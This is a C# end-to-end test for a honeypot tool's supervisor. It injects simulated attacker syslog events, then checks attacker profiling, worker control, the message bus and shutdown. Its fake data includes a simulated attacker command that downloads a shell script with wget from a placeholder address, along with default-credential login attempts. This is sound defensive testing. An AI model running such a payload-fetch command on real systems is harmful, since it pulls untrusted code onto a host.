using System.Diagnostics;
using System.Text.Json;
using System.Text.RegularExpressions;

namespace Decnet.Tests.EndToEnd;

/// <summary>`decnet supervise` as an operator runs it: syslog in via the system's logger, profiles out through the
/// control channel, workers controlled one at a time, the bus tailed and published to, a clean SIGTERM.</summary>
public partial class SuperviseEndToEndTests
{
    [GeneratedRegex(@"udp://127\.0\.0\.1:(\d+)")] private static partial Regex UdpPort();
    [GeneratedRegex(@"tcp://127\.0\.0\.1:(\d+)")] private static partial Regex TcpPort();

    private static async Task Logger(params string[] args)
    {
        using var p = Process.Start(new ProcessStartInfo("logger", args) { RedirectStandardError = true })!;
        await p.WaitForExitAsync();
        if (p.ExitCode != 0) throw new InvalidOperationException("logger failed: " + await p.StandardError.ReadToEndAsync());
    }

    private static string[] SyslogEvent(string transport, int port, string ip, string eventName, params string[] extra)
    {
        var args = new List<string> { "--rfc5424", transport, "-n", "127.0.0.1", "-P", port.ToString(), "-t", "decky",
            "--sd-id", "decnet@32473", "--sd-param", $"event=\"{eventName}\"", "--sd-param", $"src_ip=\"{ip}\"",
            "--sd-param", "decky=\"decky-01\"", "--sd-param", "service=\"ssh\"" };
        foreach (var e in extra) { args.Add("--sd-param"); args.Add(e); }
        args.Add("attacker interaction");
        return args.ToArray();
    }

    private static async Task<JsonDocument> WaitForAttackerAsync(string dataDir, string ip)
    {
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(15);
        RunResult last = new(0, "", "");
        while (DateTime.UtcNow < deadline)
        {
            last = await DecnetBinary.RunAsync(["--data-dir", dataDir, "attackers", "show", ip, "--json"]);
            if (last.ExitCode == 0) return JsonDocument.Parse(last.Stdout);
            await Task.Delay(200);
        }
        throw new TimeoutException($"attacker {ip} never appeared: {last}");
    }

    private static async Task<Dictionary<string, string>> WorkerStatesAsync(string dataDir)
    {
        var r = await DecnetBinary.RunAsync(["--data-dir", dataDir, "workers", "--json"]);
        if (r.ExitCode != 0) throw new InvalidOperationException(r.ToString());
        using var doc = JsonDocument.Parse(r.Stdout);
        return doc.RootElement.EnumerateArray().ToDictionary(w => w.GetProperty("name").GetString()!, w => w.GetProperty("state").GetString()!);
    }

    [Test]
    public async Task SyslogInProfilesOutWorkersBusAndCleanShutdown()
    {
        using var dir = new TempDir();
        var d = dir.Path;
        await using var supervisor = new RunningProcess(["--data-dir", d, "supervise", "--udp", "127.0.0.1:0", "--tcp", "127.0.0.1:0", "--unix", "auto"]);
        await supervisor.WaitForOutputAsync("syslog on", TimeSpan.FromSeconds(15));
        // Wait until both endpoints are in stdout: parsing right after "syslog on" showed up failed twice under load
        // (the text is also matched on stderr, which can come first).
        for (var i = 0; i < 100 && !(UdpPort().IsMatch(supervisor.Stdout) && TcpPort().IsMatch(supervisor.Stdout)); i++) await Task.Delay(50);
        var udp = int.Parse(UdpPort().Match(supervisor.Stdout).Groups[1].Value);
        var tcp = int.Parse(TcpPort().Match(supervisor.Stdout).Groups[1].Value);

        // RFC 5424 over UDP and over TCP with octet counting, from the system's logger.
        await Logger(SyslogEvent("-d", udp, "203.0.113.7", "login.failed", "username=\"root\"", "password=\"hunter2\""));
        await Logger(SyslogEvent("-T", tcp, "203.0.113.8", "command.input", "command=\"wget http://198.51.100.1/x.sh\""));
        await Logger([.. SyslogEvent("-T", tcp, "203.0.113.8", "login.success", "username=\"admin\"", "password=\"admin\"")[..^1], "--octet-count", "ok"]);
        // A malformed message (no decnet@32473 element) is counted and skipped; the stream goes on.
        await Logger("--rfc5424", "-T", "-n", "127.0.0.1", "-P", tcp.ToString(), "just a plain message");
        // And on the Unix socket.
        var sock = Path.Combine(d, "syslog.sock");
        await Logger("--rfc5424", "-u", sock, "--sd-id", "decnet@32473", "--sd-param", "event=\"login.failed\"", "--sd-param", "src_ip=\"203.0.113.10\"", "via unix");

        using (var a = await WaitForAttackerAsync(d, "203.0.113.7"))
        {
            await Assert.That(a.RootElement.GetProperty("credentials")[0].GetProperty("password").GetString()).IsEqualTo("hunter2");
            await Assert.That(a.RootElement.GetProperty("sensors")[0].GetString()).IsEqualTo("decky-01");
        }
        using (var b = await WaitForAttackerAsync(d, "203.0.113.8"))
            await Assert.That(b.RootElement.GetProperty("event_count").GetInt64()).IsEqualTo(2);
        (await WaitForAttackerAsync(d, "203.0.113.10")).Dispose();

        // Workers: listed, and acted on one at a time.
        var states = await WorkerStatesAsync(d);
        await Assert.That(states["profiler"]).IsEqualTo("running");
        await Assert.That(states["listener"]).IsEqualTo("running");
        var pause = await DecnetBinary.RunAsync(["--data-dir", d, "workers", "pause", "profiler"]);
        await Assert.That(pause.ExitCode).IsEqualTo(0).Because(pause.ToString());
        states = await WorkerStatesAsync(d);
        await Assert.That(states["profiler"]).IsEqualTo("paused");
        await Assert.That(states["listener"]).IsEqualTo("running");
        await DecnetBinary.RunAsync(["--data-dir", d, "workers", "resume", "profiler"]);
        await Assert.That((await WorkerStatesAsync(d))["profiler"]).IsEqualTo("running");
        var unknown = await DecnetBinary.RunAsync(["--data-dir", d, "workers", "stop", "nope"]);
        await Assert.That(unknown.ExitCode).IsEqualTo(2);

        // The bus: tail sees a new attacker; a control message published on the bus pauses a worker.
        await using (var tail = new RunningProcess(["--data-dir", d, "bus", "tail", "attacker.observed", "--json", "--count", "1"]))
        {
            await Task.Delay(1500);
            await Logger(SyslogEvent("-d", udp, "203.0.113.9", "login.failed"));
            await tail.WaitForOutputAsync("attacker.observed", TimeSpan.FromSeconds(10));
            using var envelope = JsonDocument.Parse(tail.Stdout.Trim().Split('\n')[0]);
            await Assert.That(envelope.RootElement.GetProperty("v").GetInt32()).IsEqualTo(1);
            await Assert.That(envelope.RootElement.GetProperty("payload").GetProperty("ip").GetString()).IsEqualTo("203.0.113.9");
            await Assert.That(envelope.RootElement.GetProperty("id").GetString()!.Length).IsGreaterThan(10);
        }
        var published = await DecnetBinary.RunAsync(["--data-dir", d, "bus", "publish", "system.listener.control", """{"action":"pause"}"""]);
        await Assert.That(published.ExitCode).IsEqualTo(0).Because(published.ToString());
        var deadline = DateTime.UtcNow.AddSeconds(5);
        while ((await WorkerStatesAsync(d))["listener"] != "paused" && DateTime.UtcNow < deadline) await Task.Delay(200);
        await Assert.That((await WorkerStatesAsync(d))["listener"]).IsEqualTo("paused");

        // Status shows the endpoints; a second supervisor is refused; ingest goes through the control channel.
        var status = await DecnetBinary.RunAsync(["--data-dir", d, "status", "--json"]);
        using (var s = JsonDocument.Parse(status.Stdout))
        {
            await Assert.That(s.RootElement.GetProperty("supervisor_running").GetBoolean()).IsTrue();
            await Assert.That(s.RootElement.GetProperty("listeners").GetArrayLength()).IsEqualTo(3);
        }
        var second = await DecnetBinary.RunAsync(["--data-dir", d, "supervise", "--udp", "127.0.0.1:0", "--tcp", "off", "--unix", "off"]);
        await Assert.That(second.ExitCode).IsEqualTo(3).Because(second.ToString());
        var ingest = await DecnetBinary.RunAsync(["--data-dir", d, "ingest", "--format", "jsonl", "-"],
            stdin: """{"ts":"2026-11-01T10:00:00Z","event":"login.failed","src_ip":"198.51.100.20","username":"pi","password":"raspberry"}""" + "\n");
        await Assert.That(ingest.ExitCode).IsEqualTo(0).Because(ingest.ToString());
        await Assert.That(ingest.Stdout).Contains("ingested 1 new events");

        // Stopping one worker leaves the others running.
        var stop = await DecnetBinary.RunAsync(["--data-dir", d, "workers", "stop", "listener"]);
        await Assert.That(stop.ExitCode).IsEqualTo(0).Because(stop.ToString());
        deadline = DateTime.UtcNow.AddSeconds(5);
        while ((await WorkerStatesAsync(d))["listener"] != "stopped" && DateTime.UtcNow < deadline) await Task.Delay(100);
        states = await WorkerStatesAsync(d);
        await Assert.That(states["listener"]).IsEqualTo("stopped");
        await Assert.That(states["profiler"]).IsEqualTo("running");

        var (code, took) = await supervisor.TerminateAsync(TimeSpan.FromSeconds(10));
        await Assert.That(code).IsEqualTo(0).Because(supervisor.Stderr);
        await Assert.That(took).IsLessThan(TimeSpan.FromSeconds(5));
        await Assert.That(File.Exists(Path.Combine(d, "supervisor.json"))).IsFalse();

        // Everything acknowledged is on disk: a one-shot command now owns the file and sees it all.
        var list = await DecnetBinary.RunAsync(["--data-dir", d, "attackers", "list", "--json"]);
        using var all = JsonDocument.Parse(list.Stdout);
        var ips = all.RootElement.EnumerateArray().Select(x => x.GetProperty("ip").GetString()).ToHashSet();
        foreach (var ip in new[] { "203.0.113.7", "203.0.113.8", "203.0.113.9", "203.0.113.10", "198.51.100.20" })
            await Assert.That(ips).Contains(ip);
    }
}
